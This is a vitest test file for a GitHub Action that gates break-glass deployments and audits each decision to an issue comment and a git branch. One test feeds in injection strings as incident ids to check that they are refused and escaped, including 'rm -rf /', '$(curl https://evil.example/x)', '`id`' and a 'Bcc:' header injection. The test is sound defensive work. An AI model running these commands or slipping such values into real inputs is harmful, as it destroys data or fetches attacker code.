import { getOctokit } from '@actions/github';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import {
  assertNoViolations,
  createGitSandbox,
  runBundle,
  startGitHubStandIn,
  type BundleRun,
  type GitHubStandIn,
  type GitSandbox,
  type RunBundleOptions,
} from '@hotfix-actions/testkit';
import { startFaultProxy } from '@hotfix-actions/testkit';

// Runner-contract tests: the committed bundle dist/break-glass/index.js, run as the runner runs it,
// against the GitHub API stand-in, whose git data is a real bare repository (the audit branch).

const R = { owner: 'acme', repo: 'shop' } as const;
const AUDIT_ISSUE = '1';

let template: GitSandbox;
let sandbox: GitSandbox;
let api: GitHubStandIn;
let sha: string;

beforeAll(async () => {
  template = await createGitSandbox();
  await template.commit({ 'app.txt': 'v1.2.3\n' }, 'feat: app', { push: true });
});

afterAll(async () => {
  await template?.cleanup();
});

beforeEach(async () => {
  sandbox = await template.copy();
  sha = await sandbox.revParse('main');
  api = await startGitHubStandIn({
    ...R,
    gitDir: sandbox.origin,
    permissions: { alice: 'admin', bob: 'write', carol: 'read', dave: 'maintain', mallory: 'admin' },
    teams: { 'release-leads': { dave: 'member' } },
  });
  const octokit = getOctokit('test-token', { baseUrl: api.url });
  await octokit.rest.issues.create({ ...R, title: 'Break-glass audit log' });
  api.clearRequests();
});

afterEach(async () => {
  assertNoViolations(api);
  await api.close();
  await sandbox.cleanup();
});

/** Runs the bundle as `actor`, with audit comments on issue #1 unless the inputs say otherwise. */
function breakGlass(
  inputs: Record<string, string>,
  options: Partial<RunBundleOptions> & { actor?: string } = {},
): Promise<BundleRun> {
  return runBundle({
    bundle: 'break-glass',
    inputs: { 'audit-issue': AUDIT_ISSUE, ...inputs },
    actor: options.actor ?? 'alice',
    sha,
    repository: `${R.owner}/${R.repo}`,
    ...options,
    env: { ...api.env(), ...options.env },
  });
}

interface Audit {
  decision: string;
  incident_id: string | null;
  incident_id_given?: string;
  actor: string;
  denial: string | null;
  skip_gates: string[];
  never_skipped: string[];
  sha: string;
  run_id: string;
  run_url: string;
  time: string;
  checks: { rule: string; outcome: string; detail: string }[];
}

/** The audit records in the comments of issue #1, oldest first. */
function auditComments(): Audit[] {
  return api.state.comments
    .filter(
      (comment) => comment.issueNumber === 1 && comment.body.startsWith('<!-- hotfix-actions:break-glass-audit -->'),
    )
    .map((comment) => JSON.parse(/```json\n(.*)\n```/.exec(comment.body)![1]!) as Audit);
}

/** The JSONL audit lines on a branch of the bare origin. */
async function auditLines(branch = 'audit', path = 'audit/break-glass.jsonl'): Promise<Audit[]> {
  const text = await sandbox.git(['show', `refs/heads/${branch}:${path}`], sandbox.origin);
  return text
    .split('\n')
    .filter(Boolean)
    .map((line) => JSON.parse(line) as Audit);
}

function explain(run: BundleRun): string {
  return `exit ${run.exitCode}\n${run.stdout}\n${run.stderr}`;
}

describe('break-glass allowed', () => {
  it('allows a listed actor with the admin permission and audits to an issue comment and a branch', async () => {
    const run = await breakGlass({
      'incident-id': 'INC-1234',
      reason: 'Checkout down for all users',
      'allowed-actors': 'alice, bob',
      'min-permission': 'admin',
      'audit-branch': 'audit',
    });
    expect(run.exitCode, explain(run)).toBe(0);
    expect(run.outputs).toMatchObject({
      approved: 'true',
      'skip-gates': '["canary-analysis"]',
      'incident-id': 'INC-1234',
      'review-ticket-title': 'Post-incident review: INC-1234 (break-glass by alice)',
      'review-ticket-depends-on': '',
      'review-ticket-external-ref': 'INC-1234',
    });
    expect(run.outputs['audit-url']).toMatch(/^https:\/\/github\.com\/acme\/shop\/issues\/1#issuecomment-\d+$/);
    expect(run.outputs['review-ticket-description']).toContain('Reason: Checkout down for all users');
    expect(run.outputs['review-ticket-description']).toContain('health checks and tests were not skipped');

    // The permission was read through the API, once.
    expect(api.count({ operationId: 'repos/get-collaborator-permission-level' })).toBe(1);

    const [comment] = auditComments();
    expect(comment).toMatchObject({
      decision: 'allowed',
      incident_id: 'INC-1234',
      actor: 'alice',
      denial: null,
      skip_gates: ['canary-analysis'],
      never_skipped: ['health-checks', 'tests'],
      sha,
      run_id: '1658821493',
      run_url: 'https://github.com/acme/shop/actions/runs/1658821493/attempts/1',
    });
    expect(Date.parse(comment!.time)).toBeGreaterThan(Date.now() - 60_000);
    expect(comment!.checks.map((check) => [check.rule, check.outcome])).toEqual([
      ['incident-id', 'pass'],
      ['allowed-actors', 'pass'],
      ['min-permission', 'pass'],
    ]);
    expect(JSON.stringify(await auditLines())).toBe(JSON.stringify([comment]));
    expect(JSON.parse(run.outputs['audit-record']!)).toEqual(comment);

    expect(run.summary).toContain('Break-glass allowed: INC-1234 by alice');
    expect(run.summary).toContain('Health checks and tests are never skipped');
    expect(run.annotations).toContainEqual(expect.objectContaining({ level: 'notice', title: 'Break-glass allowed' }));
  });

  it('allows a team member with a Beads incident id, and hands beads-sync the discovered-from dependency', async () => {
    const run = await breakGlass(
      {
        'incident-id': 'bd-a1b2',
        'allowed-actors': 'alice',
        'allowed-team': 'release-leads',
        'skip-gates': 'canary-analysis, bake-time',
      },
      { actor: 'dave' },
    );
    expect(run.exitCode, explain(run)).toBe(0);
    expect(run.outputs).toMatchObject({
      approved: 'true',
      'skip-gates': '["canary-analysis","bake-time"]',
      'review-ticket-depends-on': 'discovered-from:bd-a1b2',
      'review-ticket-external-ref': '',
    });
    expect(auditComments()[0]!.checks.map((check) => [check.rule, check.outcome])).toEqual([
      ['incident-id', 'pass'],
      ['allowed-actors', 'fail'],
      ['allowed-team', 'pass'],
      ['min-permission', 'pass'],
    ]);
  });
});

describe('break-glass denied, audited all the same', () => {
  it('denies an actor who is not allowed, without asking the API for a permission', async () => {
    const run = await breakGlass(
      { 'incident-id': 'INC-1234', 'allowed-actors': 'alice', 'audit-branch': 'audit' },
      { actor: 'mallory' },
    );
    expect(run.exitCode).toBe(1);
    expect(run.outputs).toMatchObject({ approved: 'false', 'skip-gates': '[]', 'review-ticket-title': '' });
    expect(api.count({ operationId: 'repos/get-collaborator-permission-level' })).toBe(0);
    expect(run.annotations).toContainEqual(
      expect.objectContaining({
        level: 'error',
        title: 'Break-glass denied',
        message: 'Break-glass denied: mallory is not listed in allowed-actors.',
      }),
    );
    const [comment] = auditComments();
    expect(comment).toMatchObject({
      decision: 'denied',
      actor: 'mallory',
      incident_id: 'INC-1234',
      skip_gates: [],
      denial: 'mallory is not listed in allowed-actors',
    });
    expect(await auditLines()).toEqual([comment]);
    expect(run.outputs['audit-url']).toContain('#issuecomment-');
    expect(run.summary).toContain('Break-glass denied: INC-1234 by mallory');
  });

  it('denies a permission below min-permission', async () => {
    const run = await breakGlass(
      { 'incident-id': 'INC-7', 'allowed-actors': 'alice,bob', 'min-permission': 'maintain' },
      { actor: 'bob' },
    );
    expect(run.exitCode).toBe(1);
    expect(run.outputs.approved).toBe('false');
    expect(auditComments()[0]).toMatchObject({
      decision: 'denied',
      denial: 'bob has the write permission, but at least maintain is needed',
    });

    // With fail-on-denied false the step succeeds, says why, and the workflow branches on approved.
    const soft = await breakGlass(
      { 'incident-id': 'INC-7', 'allowed-actors': 'bob', 'min-permission': 'maintain', 'fail-on-denied': 'false' },
      { actor: 'bob' },
    );
    expect(soft.exitCode).toBe(0);
    expect(soft.outputs).toMatchObject({ approved: 'false', 'skip-gates': '[]' });
    expect(soft.annotations).toEqual([
      expect.objectContaining({
        level: 'warning',
        title: 'Break-glass denied',
        message: 'Break-glass denied: bob has the write permission, but at least maintain is needed.',
      }),
    ]);
    expect(auditComments()).toHaveLength(2);
  });

  it('denies a malformed incident id, naming the input, and records what was given', async () => {
    const run = await breakGlass({ 'incident-id': 'incident 42', 'allowed-actors': 'alice' });
    expect(run.exitCode).toBe(1);
    expect(run.outputs).toMatchObject({ approved: 'false', 'incident-id': '' });
    expect(run.annotations).toContainEqual(
      expect.objectContaining({ level: 'error', title: 'Configuration error for input "incident-id"' }),
    );
    expect(api.count({ operationId: 'repos/get-collaborator-permission-level' })).toBe(0);
    expect(auditComments()[0]).toMatchObject({
      decision: 'denied',
      incident_id: null,
      incident_id_given: 'incident 42',
    });
    expect(run.summary).toContain('Break-glass denied: (no valid incident id) by alice');
  });

  it.each([
    ['INC-1;rm -rf /', '";"'],
    ['INC-1\nBcc: evil@example.com', 'line break'],
    ['$(curl https://evil.example/x)', '"$" at the start'],
    ['`id`', '"`" at the start'],
    ['INC-1 && echo pwned', '" "'],
  ])('refuses the hostile incident id %j', async (hostile, problem) => {
    const run = await breakGlass({ 'incident-id': hostile, 'allowed-actors': 'alice', 'audit-branch': 'audit' });
    expect(run.exitCode).toBe(1);
    const error = run.annotations.find((annotation) => annotation.level === 'error')!;
    expect(error.title).toBe('Configuration error for input "incident-id"');
    expect(error.message).toContain('Input "incident-id" must be an incident id such as INC-1234');
    expect(error.message).toContain(problem);
    const [comment] = auditComments();
    expect(comment).toMatchObject({ decision: 'denied', incident_id: null, incident_id_given: hostile });
    // The hostile text reaches the audit as data only: in code, JSON-escaped, one line each.
    const body = api.state.comments.at(-1)!.body;
    const prose = body.replace(/```[\s\S]*?\n```/g, '').replace(/(`+)[\s\S]*?\1/g, '');
    expect(prose).not.toContain(hostile.slice(0, 6));
    expect(body.split('\n').some((line) => line.startsWith('Bcc:'))).toBe(false);
    const lines = await auditLines();
    expect(lines).toHaveLength(1);
    expect(lines[0]!.incident_id_given).toBe(hostile);
    const message = await sandbox.git(['log', '-1', '--format=%B', 'refs/heads/audit'], sandbox.origin);
    expect(message).toContain('Break-glass denied: (no valid incident id) by alice');
    expect(message).not.toContain(hostile);
  });

  it('denies when no rule allows anyone, and when no durable audit target is set', async () => {
    const nobody = await breakGlass({ 'incident-id': 'INC-1', 'min-permission': 'none' });
    expect(nobody.exitCode).toBe(1);
    expect(auditComments()[0]?.denial).toBe(
      'no rule allows anyone: set allowed-actors, allowed-team or min-permission',
    );

    const unaudited = await breakGlass({ 'incident-id': 'INC-1', 'allowed-actors': 'alice', 'audit-issue': '' });
    expect(unaudited.exitCode).toBe(1);
    expect(unaudited.outputs).toMatchObject({ approved: 'false', 'audit-url': '' });
    expect(unaudited.annotations[0]).toMatchObject({ title: 'Configuration error for input "audit-issue"' });
    expect(unaudited.summary).toContain('No durable audit target was configured');
    expect(unaudited.summary).toContain('"decision":"denied"');
  });

  it('refuses to skip a health check, naming skip-gates', async () => {
    const run = await breakGlass({
      'incident-id': 'INC-1',
      'allowed-actors': 'alice',
      'skip-gates': 'canary-analysis, health-check',
    });
    expect(run.exitCode).toBe(1);
    expect(run.annotations[0]).toMatchObject({ title: 'Configuration error for input "skip-gates"' });
    expect(run.annotations[0]!.message).toContain('health checks, smoke tests, tests and rollback are never skipped');
    expect(auditComments()[0]).toMatchObject({ decision: 'denied', skip_gates: [] });
  });
});

describe('break-glass fails closed when it cannot verify or audit', () => {
  it('denies when the permission API keeps failing, and still writes the audit comment', async () => {
    api.faults.inject({
      match: { operationId: 'repos/get-collaborator-permission-level' },
      kind: 'reset',
      times: Infinity,
    });
    const run = await breakGlass({ 'incident-id': 'INC-1234', 'allowed-actors': 'alice' });
    expect(run.exitCode).toBe(1);
    expect(run.outputs.approved).toBe('false');
    // The client retried (3 retries) before giving up.
    expect(api.count({ operationId: 'repos/get-collaborator-permission-level' })).toBe(4);
    const [comment] = auditComments();
    expect(comment!.decision).toBe('denied');
    expect(comment!.denial).toMatch(/^the repository permission of alice could not be verified/);
    expect(comment!.checks.at(-1)).toMatchObject({ rule: 'min-permission', outcome: 'error' });
  });

  it('denies when the API is unreachable, auditing through git to the audit branch and the summary', async () => {
    const workspace = await sandbox.clone();
    const run = await breakGlass(
      {
        'incident-id': 'INC-1234',
        'allowed-actors': 'alice',
        'audit-branch': 'audit',
        'audit-method': 'git',
      },
      { workspace, env: { GITHUB_API_URL: 'http://127.0.0.1:9' } },
    );
    expect(run.exitCode).toBe(1);
    expect(run.outputs.approved).toBe('false');
    const lines = await auditLines();
    expect(lines).toHaveLength(1);
    expect(lines[0]).toMatchObject({ decision: 'denied', incident_id: 'INC-1234', actor: 'alice', sha });
    expect(lines[0]!.denial).toMatch(/could not be verified/);
    // The audit comment could not be written either: the summary says so, and holds the record.
    expect(run.summary).toMatch(/issue #1 \| \*\*no\*\*/);
    expect(run.summary).toContain('"decision":"denied"');
    expect(run.outputs['audit-url']).toMatch(
      /^https:\/\/github\.com\/acme\/shop\/blob\/[0-9a-f]{40}\/audit\/break-glass\.jsonl$/,
    );
    // The audit branch is an orphan holding only the log; the checkout is untouched.
    expect(await sandbox.git(['ls-tree', '-r', '--name-only', 'refs/heads/audit'], sandbox.origin)).toBe(
      'audit/break-glass.jsonl',
    );
    expect(await sandbox.git(['status', '--porcelain'], workspace)).toBe('');
    expect(await sandbox.git(['rev-parse', 'HEAD'], workspace)).toBe(sha);
  });

  it('denies an allowed attempt whose audit cannot be written, and corrects the audit that was written', async () => {
    const run = await breakGlass({
      'incident-id': 'INC-1234',
      'allowed-actors': 'alice',
      'min-permission': 'none',
      'audit-issue': '404',
      'audit-branch': 'audit',
    });
    expect(run.exitCode).toBe(1);
    expect(run.outputs).toMatchObject({ approved: 'false', 'skip-gates': '[]' });
    const lines = await auditLines();
    expect(lines.map((line) => line.decision)).toEqual(['allowed', 'denied']);
    expect(lines[1]!.denial).toBe('the audit record could not be written to issue #404');
    expect(run.outputs['audit-url']).toBe(
      `https://github.com/acme/shop/commit/${await sandbox.git(['rev-parse', 'refs/heads/audit'], sandbox.origin)}`,
    );
    expect(JSON.parse(run.outputs['audit-record']!)).toEqual(lines[1]);
    expect(run.annotations[0]!.message).toContain('The audit could not be written to issue #404 (HTTP 404');
  });
});

describe('break-glass audit comment', () => {
  it('writes one comment when the answer to the post is lost after the write', async () => {
    const proxy = await startFaultProxy(api.url, { kind: 'lost-answer', write: 1 });
    try {
      const run = await breakGlass(
        { 'incident-id': 'INC-1234', 'allowed-actors': 'alice', 'min-permission': 'none' },
        { env: { GITHUB_API_URL: proxy.url } },
      );
      expect(run.exitCode, explain(run)).toBe(0);
      expect(proxy.lost).toBe(1);
      expect(run.outputs.approved).toBe('true');
      expect(api.count({ operationId: 'issues/create-comment' })).toBe(1);
      expect(auditComments().map((comment) => comment.decision)).toEqual(['allowed']);
      const [comment] = api.state.comments.filter((c) => c.issueNumber === 1);
      expect(comment!.body).toMatch(
        /<!-- hotfix-actions:break-glass run=\S+ attempt=1 job=harness record=[0-9a-f]{16} -->/,
      );
      expect(run.outputs['audit-url']).toBe(`https://github.com/acme/shop/issues/1#issuecomment-${comment!.id}`);
    } finally {
      await proxy.close();
    }
  });
});

describe('break-glass audit branch', () => {
  it('appends one line per run when runs race, through the contents API and through git', async () => {
    const api4 = Array.from({ length: 4 }, (_, i) =>
      breakGlass({ 'incident-id': `INC-${i + 1}`, 'allowed-actors': 'alice', 'audit-branch': 'audit' }),
    );
    for (const run of await Promise.all(api4)) expect(run.exitCode, explain(run)).toBe(0);
    expect((await auditLines()).map((line) => line.incident_id).sort()).toEqual(['INC-1', 'INC-2', 'INC-3', 'INC-4']);

    const workspaces = await Promise.all([sandbox.clone(), sandbox.clone(), sandbox.clone()]);
    const git3 = workspaces.map((workspace, i) =>
      breakGlass(
        {
          'incident-id': `INC-${i + 5}`,
          'allowed-actors': 'alice',
          'audit-issue': '',
          'audit-branch': 'audit',
          'audit-method': 'git',
        },
        { workspace },
      ),
    );
    for (const run of await Promise.all(git3)) expect(run.exitCode, explain(run)).toBe(0);
    const all = (await auditLines()).map((line) => line.incident_id);
    expect(all.slice(0, 4).sort()).toEqual(['INC-1', 'INC-2', 'INC-3', 'INC-4']);
    expect(all.slice(4).sort()).toEqual(['INC-5', 'INC-6', 'INC-7']);
  });
});
